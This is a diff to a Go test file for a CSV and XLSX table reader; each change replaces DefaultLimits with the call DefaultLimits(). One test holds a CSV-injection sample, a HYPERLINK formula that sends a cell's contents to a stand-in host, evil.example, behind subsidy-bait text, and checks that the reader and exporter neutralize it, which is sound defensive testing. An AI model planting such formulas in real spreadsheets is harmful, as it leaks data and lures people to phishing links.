@@ -36,13 +36,13 @@ func lines(tab *Table) []string {
 
 func TestReadCSV(t *testing.T) {
 	t.Run("WithBOM", func(t *testing.T) {
-		tab := mustRead(t, []byte("\uFEFF姓名,手机号\n张三,13912345678\n"), "a.csv", DefaultLimits)
+		tab := mustRead(t, []byte("\uFEFF姓名,手机号\n张三,13912345678\n"), "a.csv", DefaultLimits())
 		if tab.Col("姓名") != 0 || tab.Col("手机号") != 1 || len(tab.Rows) != 1 || tab.Rows[0].Cell(1) != "13912345678" {
 			t.Fatalf("header %q rows %v", tab.Header, tab.Rows)
 		}
 	})
 	t.Run("WithoutBOMAndCRLF", func(t *testing.T) {
-		tab := mustRead(t, []byte("姓名 , 手机号\r\n 张三 ,13912345678\r\n"), "A.CSV", DefaultLimits)
+		tab := mustRead(t, []byte("姓名 , 手机号\r\n 张三 ,13912345678\r\n"), "A.CSV", DefaultLimits())
 		if tab.Col("手机号") != 1 || tab.Rows[0].Cell(0) != "张三" {
 			t.Fatalf("header %q rows %v", tab.Header, tab.Rows)
 		}
@@ -51,7 +51,7 @@ func TestReadCSV(t *testing.T) {
 		// An empty line and a line of empty cells are both rows in a
 		// spreadsheet; a quoted cell over two lines is one row.
 		csv := "姓名,备注\n甲,1\n\n乙,2\n,,\n丙,\"两\n行\"\n丁,4\n"
-		tab := mustRead(t, []byte(csv), "a.csv", DefaultLimits)
+		tab := mustRead(t, []byte(csv), "a.csv", DefaultLimits())
 		want := []string{"2:甲", "4:乙", "6:丙", "7:丁"}
 		if got := lines(tab); !slices.Equal(got, want) {
 			t.Fatalf("rows %v, want %v", got, want)
@@ -61,13 +61,13 @@ func TestReadCSV(t *testing.T) {
 		}
 	})
 	t.Run("LeadingBlankLinesBeforeHeader", func(t *testing.T) {
-		tab := mustRead(t, []byte("\n\n姓名\n甲\n"), "a.csv", DefaultLimits)
+		tab := mustRead(t, []byte("\n\n姓名\n甲\n"), "a.csv", DefaultLimits())
 		if got := lines(tab); !slices.Equal(got, []string{"4:甲"}) {
 			t.Fatalf("rows %v", got)
 		}
 	})
 	t.Run("ShortRowsReadAsEmptyCells", func(t *testing.T) {
-		tab := mustRead(t, []byte("a,b,c\n1\n"), "a.csv", DefaultLimits)
+		tab := mustRead(t, []byte("a,b,c\n1\n"), "a.csv", DefaultLimits())
 		if tab.Rows[0].Cell(2) != "" || tab.Rows[0].Cell(-1) != "" {
 			t.Fatal("missing cells are not empty")
 		}
@@ -76,7 +76,7 @@ func TestReadCSV(t *testing.T) {
 
 func TestFormulaTextStaysText(t *testing.T) {
 	const hostile = `=HYPERLINK("http://evil.example/?x="&A1,"点击领取补贴")`
-	tab := mustRead(t, []byte("姓名,备注\n"+`"=HYPERLINK(""http://evil.example/?x=""&A1,""点击领取补贴"")",`+"-5\n"), "a.csv", DefaultLimits)
+	tab := mustRead(t, []byte("姓名,备注\n"+`"=HYPERLINK(""http://evil.example/?x=""&A1,""点击领取补贴"")",`+"-5\n"), "a.csv", DefaultLimits())
 	if got := tab.Rows[0].Cell(0); got != hostile {
 		t.Fatalf("read %q, want the plain text %q", got, hostile)
 	}
@@ -94,7 +94,7 @@ func TestFormulaTextStaysText(t *testing.T) {
 		if !strings.Contains(out, `"'=HYPERLINK(`) || !strings.Contains(out, "'+1") || !strings.Contains(out, "'@SUM") || strings.Contains(out, "'plain") {
 			t.Fatalf("cells not neutralized: %s", out)
 		}
-		back := mustRead(t, buf.Bytes(), "back.csv", DefaultLimits)
+		back := mustRead(t, buf.Bytes(), "back.csv", DefaultLimits())
 		if !slices.Equal(back.Rows[0].Cells, row) {
 			t.Fatalf("round trip:\n got %q\nwant %q", back.Rows[0].Cells, row)
 		}
@@ -146,7 +146,7 @@ func TestReadXLSX(t *testing.T) {
 		_ = f.SetSheetRow(sh, "A5", &[]any{"", " "})
 		_ = f.SetSheetRow(sh, "A6", &[]any{"王五"})
 	})
-	tab := mustRead(t, data, "roster.XLSX", DefaultLimits)
+	tab := mustRead(t, data, "roster.XLSX", DefaultLimits())
 	if tab.Col("姓名") != 0 || tab.Col("公式") != 3 {
 		t.Fatalf("header %q", tab.Header)
 	}
